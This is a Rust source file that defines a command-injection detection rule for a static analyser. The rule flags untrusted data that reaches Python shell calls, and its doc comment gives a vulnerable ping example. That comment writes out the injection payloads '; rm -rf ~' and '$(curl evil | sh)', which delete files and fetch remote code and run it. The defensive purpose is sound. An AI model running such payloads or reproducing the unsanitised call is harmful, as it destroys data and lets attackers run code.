//! A data-flow rule: its findings come from the data-flow engine.

use super::Check;

crate::declare_rule! {
    /// ## What it does
    /// Untrusted data reaches a shell command or the program a process runs: a value from a request, a handler parameter, the command line or the environment reaches `os.system`, `os.popen`, `subprocess.*` with `shell=True`, a process list whose program is a shell running `-c`, or the program argument of `os.exec*`/`os.spawn*`.
///
/// The data-flow engine follows values inside the changed functions and through the
/// summaries of the same file's functions they call; a call into another file is assumed to
/// pass its arguments on, at low confidence, unless its name says it sanitises. Confidence is
/// high for a flow inside one function from a request, medium when it crosses a function or
/// starts at the command line or the environment (whose severity is one level lower: whoever
/// runs the program already controls it).
    ///
    /// ## Why is this bad?
    /// Whoever controls the value can append `; rm -rf ~` or `$(curl evil | sh)`: the shell runs it with the server's rights.
    ///
    /// ## Example
    /// ```python
    /// @app.route("/ping")
    /// def ping():
    ///     host = request.args["host"]
    ///     os.system("ping -c 1 " + host)                     # flagged
    ///     subprocess.run(["ping", "-c", "1", host])          # not flagged: no shell
    ///     os.system("ping -c 1 " + shlex.quote(host))       # not flagged: quoted
    /// ```
    pub static RULE = {
        id: "HG301",
        name: "command_injection",
        severity: High,
        confidence: High,
        cwe: 78,
        aspect: ExternalInputs,
        message: "Untrusted data reaches a shell command or the program a process runs",
        kinds: [],
        check: Check::Flow(crate::dataflow::SinkKind::Command),
    }
}
